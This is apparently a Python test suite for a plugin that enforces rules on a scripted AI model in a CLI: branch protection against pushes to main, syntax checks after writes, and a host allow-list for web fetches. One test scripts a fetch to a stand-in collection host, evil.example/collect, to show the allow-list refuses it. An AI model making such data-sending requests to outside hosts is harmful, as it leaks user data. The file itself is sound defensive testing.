"""The plan's invariant rules in the real CLI: protect_branches against a local bare remote (inside
the project, where the step's sandboxed commands may write),
check_after_write telling the model about a broken file it then fixes, allow_hosts refusing a
WebFetch. The scripted model makes the calls; the test checks what it was told and what changed."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from .driver import Claude
from .fakeapi import FakeAPI, all_text_of, text, tool_use
from .jobstate import baton, gate_denied, ledger, results_by_id, write_plan


def bash(call_id: str, command: str) -> dict[str, object]:
    return tool_use("Bash", {"command": command, "description": call_id}, id=call_id)


def git(cwd: Path, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.invalid", GIT_COMMITTER_NAME="t",
               GIT_COMMITTER_EMAIL="t@example.invalid", GIT_CONFIG_NOSYSTEM="1", HOME=str(cwd))
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout


def checkout_with_a_bare_remote(project: Path) -> Path:
    """``project`` on branch feature, one commit ahead; ``origin`` a bare repository with main and feature,
    in the project: in baton's sandbox a push writes only where the step may write."""
    remote = project / "remote.git"
    git(project.parent, "init", "-q", "--bare", "-b", "main", str(remote))
    git(project, "init", "-q", "-b", "main")
    (project / "app.txt").write_text("one\n")
    git(project, "add", "app.txt")
    git(project, "commit", "-qm", "one")
    git(project, "remote", "add", "origin", str(remote))
    git(project, "push", "-q", "-u", "origin", "main")
    (project / "app.txt").write_text("two\n")
    git(project, "commit", "-qam", "two")  # main is ahead of origin/main
    git(project, "checkout", "-qb", "feature")
    (project / "app.txt").write_text("three\n")
    git(project, "commit", "-qam", "three")
    return remote


def test_pushes_to_a_protected_branch_are_refused_and_the_remote_is_unchanged(
    claude: Claude, fake_api: FakeAPI, project: Path, plugin_copy: Path
) -> None:
    remote = checkout_with_a_bare_remote(project)
    write_plan(project, {"rules": [{"id": "main-reviewed", "protect_branches": ["main"],
                                    "reason": "main changes only through review"}],
                         "steps": [{"id": "ship", "phase": "implemented"}]})
    before = git(remote, "for-each-ref")
    fake_api.script = [
        [text("pushing"), bash("p_head", "git push origin HEAD:main")],
        [bash("p_feature", "git push -q origin feature")],
        [bash("p_checkout", "git checkout -q main")],
        [bash("p_plain", "git push")],
        [text("done")],
    ]

    run = claude.run("push the work", cwd=project, plugin_dir=plugin_copy)

    assert run.returncode == 0, run.stderr
    seen = results_by_id(fake_api.requests_main()[-1])
    for cid in ("p_head", "p_plain"):
        assert gate_denied(seen[cid]), (cid, seen[cid].text)
        assert "[baton:protect-branches]" in seen[cid].text and "main-reviewed" in seen[cid].text
    assert "`git push origin HEAD:main` would update main on the remote origin" in seen["p_head"].text
    assert "`git push` would update main" in seen["p_plain"].text
    assert not seen["p_feature"].is_error and not seen["p_checkout"].is_error, seen["p_feature"].text
    after = git(remote, "for-each-ref")
    main_before = [line for line in before.splitlines() if line.endswith("refs/heads/main")]
    assert [line for line in after.splitlines() if line.endswith("refs/heads/main")] == main_before
    assert "refs/heads/feature" in after  # the allowed push did reach the remote


def test_a_file_that_fails_its_check_is_told_then_fixed(
    claude: Claude, fake_api: FakeAPI, project: Path, plugin_copy: Path
) -> None:
    write_plan(project, {"rules": [{"id": "syntax", "check_after_write": "default",
                                    "reason": "a broken file is not done"}],
                         "steps": [{"id": "code", "phase": "implemented", "writes": ["src/**"]}, "later"]})
    broken = "def area(r):\n    return 3.14 * r *\n"
    fixed = "def area(r):\n    return 3.14 * r * r\n"
    fake_api.script = [
        [text("writing"), tool_use("Write", {"file_path": str(project / "src/geo.py"), "content": broken}, id="w1")],
        [bash("r1", "baton record code done 'area written'")],
        [tool_use("Write", {"file_path": str(project / "src/geo.py"), "content": fixed}, id="w2")],
        [bash("r2", "baton record code done 'area written and checked'")],
        [text("done")],
    ]

    run = claude.run("write src/geo.py", cwd=project, plugin_dir=plugin_copy)

    assert run.returncode == 0, run.stderr
    requests = fake_api.requests_main()
    told = all_text_of(requests[1])
    assert "PostToolUse:Write hook additional context: baton: src/geo.py fails its check (built-in python check)" \
        in told
    assert "SyntaxError" in told
    seen = results_by_id(requests[-1])
    assert "cannot be recorded done: files it changed fail their check: src/geo.py" in seen["r1"].text
    assert not seen["w2"].is_error and not seen["r2"].is_error, seen["r2"].text
    told_in_all = all_text_of(requests[-1])
    assert told_in_all.count("hook additional context: baton: src/geo.py fails its check") == 1  # not after the fix
    assert (project / "src/geo.py").read_text() == fixed
    assert [(r["step"], r["status"]) for r in ledger(project) if r["status"] != "stop"] == [("code", "done")]
    assert baton(plugin_copy, project, claude.home, "verify").returncode == 0


def test_a_web_fetch_outside_allow_hosts_is_refused(
    claude: Claude, fake_api: FakeAPI, project: Path, plugin_copy: Path
) -> None:
    write_plan(project, {"rules": [{"id": "egress", "allow_hosts": ["docs.python.org"],
                                    "reason": "the job reads the Python docs only"}],
                         "steps": ["read"]})
    fake_api.script = [
        [text("fetching"), tool_use("WebFetch", {"url": "https://evil.example/collect?d=1", "prompt": "summarise"},
                                    id="f1")],
        [text("done")],
    ]

    run = claude.run("read the docs", cwd=project, plugin_dir=plugin_copy)

    assert run.returncode == 0, run.stderr
    seen = results_by_id(fake_api.requests_main()[1])
    assert gate_denied(seen["f1"]), seen["f1"].text
    assert "baton denied this WebFetch: evil.example is not in the job's rule egress" in seen["f1"].text
    assert seen["f1"].text.endswith("[baton:allow-hosts]")


def test_an_allow_hosts_rule_that_allows_every_host_is_a_plan_error(
    claude: Claude, fake_api: FakeAPI, project: Path, plugin_copy: Path
) -> None:
    write_plan(project, {"rules": [{"id": "net", "allow_hosts": ["*"], "reason": "anything goes"}],
                         "steps": [{"id": "fetch", "phase": "implemented"}]})
    fake_api.script = [[text("fetching"), bash("run", "echo ran > out.txt")], [text("done")]]

    run = claude.run("do step fetch", cwd=project, plugin_dir=plugin_copy, timeout=180)

    assert run.returncode == 0, run.stderr
    said = results_by_id(fake_api.requests_main()[1])["run"]
    assert said.is_error and "'*' would allow every host" in said.text, said.text  # refused, the plan named
    assert "field 'allow_hosts'" in said.text and not (project / "out.txt").exists()
    status = baton(plugin_copy, project, claude.home, "status")
    assert status.returncode == 2 and "would allow every host" in status.stderr
